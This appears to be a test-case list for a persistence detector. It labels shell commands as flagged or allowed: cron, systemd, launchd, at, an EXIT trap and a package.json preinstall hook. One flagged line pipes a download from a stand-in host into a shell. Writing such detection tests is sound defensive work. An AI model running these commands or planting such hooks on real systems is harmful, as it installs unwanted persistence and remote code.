# Cases for checks/persistence.ts: code set to run later.

# flag: persistence.cron
crontab jobs.txt
# ok: listing cron jobs
crontab -l
# flag: persistence.systemd-run
systemd-run --on-calendar=hourly /usr/local/bin/x
# flag: persistence.scheduler
at now + 1 minute
# flag: persistence.scheduler
launchctl load ~/Library/LaunchAgents/x.plist
# flag: persistence.systemctl
systemctl enable x.service
# ok: a service's status
systemctl status nginx
# flag: persistence.trap
trap 'curl -s http://x.example | sh' EXIT
# flag: persistence.manifest-shell
echo '{"scripts":{"preinstall":"/bin/sh x"}}' > package.json
# flag: persistence.defaults
defaults write com.apple.dock autohide -bool true
# ok: reading a preference
defaults read com.apple.dock autohide
